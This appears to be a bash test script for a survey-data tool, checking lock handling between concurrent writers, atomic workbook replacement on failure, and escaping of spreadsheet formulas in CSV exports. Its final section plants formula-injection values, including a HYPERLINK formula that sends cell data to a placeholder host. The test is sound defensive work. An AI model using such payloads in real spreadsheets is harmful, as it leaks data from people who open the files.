#!/usr/bin/env bash
# What panorama writes out: a project file another panorama is writing to, workbooks that
# replace the previous one only when whole, CSV without formulas, CSV for people that opens
# in a French Excel.
. "$(dirname "$0")/lib.bash"

import_demo p.db

# ---- a second writer: "in use" (exit 7), not "damaged" (exit 5); nothing changed ---------
sum() { sqlite3 p.db .dump | sha256sum; }
before=$(sum)
# another writer holds the write lock (as a running import does) for longer than the 5 s
# panorama waits for it
$PY -c '
import sqlite3, sys, time
c = sqlite3.connect(sys.argv[1], isolation_level=None)
c.execute("BEGIN IMMEDIATE")
open("locked", "w").close()
time.sleep(12)
c.execute("ROLLBACK")
' p.db &
holder=$!
for _ in $(seq 100); do [ -e locked ] && break; sleep 0.1; done
[ -e locked ] || fail "the lock holder did not start"
expect_exit 7 "$PN_BIN" --db p.db import --form ecole "$EX/ecole.csv" "$EX/ecole-partenaires.csv"
expect_err "another panorama is writing to the project file 'p.db'"
# a writer that has not written to the file yet does not stop a reader
"$PN_BIN" --db p.db tab type_lien >/dev/null || fail "'tab' failed beside a waiting writer"
kill "$holder" 2>/dev/null || true
wait "$holder" 2>/dev/null || true
[ "$(sum)" = "$before" ] || fail "an import refused as busy changed the store"
# a writer that has started writing to the file (as an import does once its cache is full):
# a reader waits 5 s, then says so too, and exits 7
rm -f locked
$PY -c '
import sqlite3, sys, time
c = sqlite3.connect(sys.argv[1], isolation_level=None)
c.execute("BEGIN EXCLUSIVE")
open("locked", "w").close()
time.sleep(12)
c.execute("ROLLBACK")
' p.db &
holder=$!
for _ in $(seq 100); do [ -e locked ] && break; sleep 0.1; done
[ -e locked ] || fail "the lock holder did not start"
expect_exit 7 "$PN_BIN" --db p.db tab type_lien
expect_err "another panorama is writing to the project file 'p.db'"
kill "$holder" 2>/dev/null || true
wait "$holder" 2>/dev/null || true
"$PN_BIN" --help | grep -q "7 project file in use" || fail "'panorama --help' lacks exit code 7"
grep -q "7 project file in" "$PN_SOURCE_DIR/README.md" || fail "the README lacks exit code 7"

# ---- a report beside an import: one snapshot, and the import is not thrown away ----------
mkdir nat
"$PN_GENERATE" national nat 100000 >/dev/null
"$PN_BIN" --db n0.db init >/dev/null
"$PN_BIN" --db n0.db import --form ecole "$EX/ecole.csv" "$EX/ecole-partenaires.csv" >/dev/null 2>&1
cp n0.db n1.db
"$PN_BIN" --db n1.db import --form centre_social nat/centre_social.csv \
  nat/centre_social-partenaires.csv >/dev/null 2>&1
state() { sqlite3 "$1" "SELECT count(*) || ' ' || count(class) FROM links"; }
before_state=$(state n0.db)
after_state=$(state n1.db)
[ "$before_state" != "$after_state" ] || fail "the national import adds no link"
reports=0
for delay in 0 0.05 0.2 0.4; do
  cp n0.db n.db
  "$PN_BIN" --db n.db import --form centre_social nat/centre_social.csv \
    nat/centre_social-partenaires.csv >imp.out 2>imp.err &
  pid=$!
  sleep "$delay"
  set +e
  "$PN_BIN" --db n.db report reports/demo.csv -o n.xlsx >rep.out 2>rep.err
  rc=$?
  set -e
  wait "$pid" || fail "an import beside a report failed: $(cat imp.err)"
  [ "$(state n.db)" = "$after_state" ] || fail "an import beside a report was not stored whole"
  # a report that waited longer than 5 s for the import says so and exits 7
  if [ "$rc" -eq 7 ]; then
    grep -q "another panorama is writing to the project file 'n.db'" rep.err \
      || fail "a report blocked by an import says: $(cat rep.err)"
    continue
  fi
  [ "$rc" -eq 0 ] || fail "a report beside an import exited $rc: $(cat rep.err)"
  reports=$((reports + 1))
  seen=$($PY - n.xlsx <<'PYEOF'
import sys, openpyxl
wb = openpyxl.load_workbook(sys.argv[1])
cover = {r[0].value: r[1].value for r in wb["Sommaire"].iter_rows() if len(r) > 1}
total = [r[1].value for r in wb["Types de liens"].iter_rows() if r[0].value == "Total"][0]
print("%d %d" % (cover["Liens déclarés"], total))
PYEOF
)
  [ "$seen" = "$before_state" ] || [ "$seen" = "$after_state" ] \
    || fail "a report beside an import mixed two states: cover and sheet say $seen, the store held $before_state then $after_state"
done
[ "$reports" -gt 0 ] || fail "no report could run beside an import"

# ---- a failed report leaves the previous workbook as it was --------------------------------
"$PN_BIN" --db p.db report reports/demo.csv -o w.xlsx >/dev/null
cp w.xlsx w.orig
same_workbook() {
  cmp -s w.xlsx w.orig || fail "$1 changed or removed the previous workbook"
  if ls -a | grep -q '\.tmp$'; then fail "$1 left a temporary file: $(ls -a)"; fi
}
# a spec that fails after the good report
printf 'kind,sheet,title,var\ntable,Liens,Liens,type_lien\ntable,X,X,pas_de_question\n' >bad.csv
expect_exit 3 "$PN_BIN" --db p.db report bad.csv -o w.xlsx
same_workbook "a failing spec"
# a disk that fills while the workbook is written (a file size limit of 16 KiB)
set +e
(ulimit -f 16 && trap '' XFSZ && exec "$PN_BIN" --db p.db report reports/demo.csv -o w.xlsx) \
  >out 2>err
got=$?
set -e
[ "$got" -eq 4 ] || fail "a report on a full disk exited $got, expected 4: $(cat err)"
expect_err "cannot write 'w.xlsx'"
same_workbook "a report on a full disk"
# a folder where no new file can be made (root may write anywhere: checked as a user only)
if [ "$(id -u)" -ne 0 ]; then
  mkdir ro && cp w.orig ro/w.xlsx && chmod 555 ro
  expect_exit 4 "$PN_BIN" --db p.db report reports/demo.csv -o ro/w.xlsx
  expect_err "cannot create a file in the folder 'ro'"
  chmod 755 ro
  cmp -s ro/w.xlsx w.orig || fail "a report in a read-only folder changed the workbook"
fi
# a target that is not a regular file: refused, never removed nor replaced
expect_exit 4 "$PN_BIN" --db p.db report reports/demo.csv -o /dev/full
expect_err "cannot write '/dev/full': it exists and is not a regular file"
[ -c /dev/full ] || fail "/dev/full is no longer a character device"
ln -s /dev/full full.xlsx
expect_exit 4 "$PN_BIN" --db p.db report reports/demo.csv -o full.xlsx
[ -L full.xlsx ] || fail "a report removed the link full.xlsx"
rm full.xlsx
# and a report that succeeds replaces it
"$PN_BIN" --db p.db report reports/demo.csv -o w.xlsx >/dev/null
# a sheet per table and pairs record, the cover and the methodology, the fiches' figures and
# one fiche per town
$PY "$CHECK_XLSX" w.xlsx --sheets $(($(grep -c '^\(table\|pairs\),' reports/demo.csv) + 2 + 1 + $(grep -c '^,communes,' forms/centre_social.csv))) \
  || fail "the workbook written after the failures is not whole"

# ---- no formula in any CSV; CSV for people opens in a French Excel -----------------------
# three answers a spreadsheet would run as formulas, and a rejected row keyed by a fourth
$PY - "$EX/centre_social.csv" <<'PYEOF'
import csv, sys
rows = list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8")))
head = rows[0]
out = [head]
formulas = ['=HYPERLINK("http://x?d="&A1;"x")', "+SUM(1,1)", "@SUM(1+1)"]
for f, r in zip(formulas, rows[1:4]):
    r = list(r)
    r[head.index("fonction_repondant")] = f
    out.append(r)
bad = list(rows[4])
bad[head.index("siret")] = "123"
bad[head.index("start")] = "-2+3"
bad[head.index("KEY")] = '=HYPERLINK("http://x?d="&A1;"x")'
out.append(bad)
csv.writer(open("formulas.csv", "w", newline="", encoding="utf-8")).writerows(out)
PYEOF
"$PN_BIN" --db f.db init >/dev/null
"$PN_BIN" --db f.db import --form centre_social formulas.csv >/dev/null 2>&1
"$PN_BIN" --db f.db tab fonction_repondant --format csv >tab.csv
"$PN_BIN" --db f.db rejects --format csv >rejects.csv
$PY - <<'PYEOF' || fail "a CSV holds a formula, or the CSV for people is not for Excel"
import csv, re, sys
number = re.compile(r"^[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?$")
def check(name, rows):
    for row in rows:
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not number.match(cell):
                sys.exit("%s: the cell %r can be read as a formula" % (name, cell))
# tab --format csv: for scripts, as before (UTF-8 without BOM, ',', LF)
raw = open("tab.csv", "rb").read()
assert not raw.startswith(b"\xef\xbb\xbf") and b"\r\n" not in raw, "tab csv changed its form"
tab = list(csv.reader(raw.decode("utf-8").splitlines()))
assert tab[0] == "table,var,by,row,col,measure,value".split(","), tab[0]
check("tab.csv", tab)
rows = {r[3] for r in tab[1:]}
for want in ["'=HYPERLINK(\"http://x?d=\"&A1;\"x\")", "'+SUM(1,1)", "'@SUM(1+1)"]:
    assert want in rows, "tab csv lacks %r: %r" % (want, rows)
# numbers stay numbers
assert any(r[5] == "n" and r[6] == "1" for r in tab[1:])
# rejects --format csv: for people (UTF-8 with BOM, ';', CRLF), French header
raw = open("rejects.csv", "rb").read()
assert raw.startswith(b"\xef\xbb\xbf"), "rejects csv has no byte order mark"
assert raw.count(b"\r\n") == raw.count(b"\n"), "rejects csv lines do not end with CRLF"
rej = list(csv.reader(raw.decode("utf-8-sig").splitlines(), delimiter=";"))
assert rej[0] == ["formulaire", "fichier", "ligne", "clé", "motifs", "ligne d'origine"], rej[0]
assert len(rej) == 2, rej
check("rejects.csv", rej)
assert rej[1][3] == "'=HYPERLINK(\"http://x?d=\"&A1;\"x\")", rej[1]
assert rej[1][5].startswith("'-2+3,"), rej[1][5]
assert rej[1][2] == "5", rej[1]
PYEOF

echo "outputs: ok"
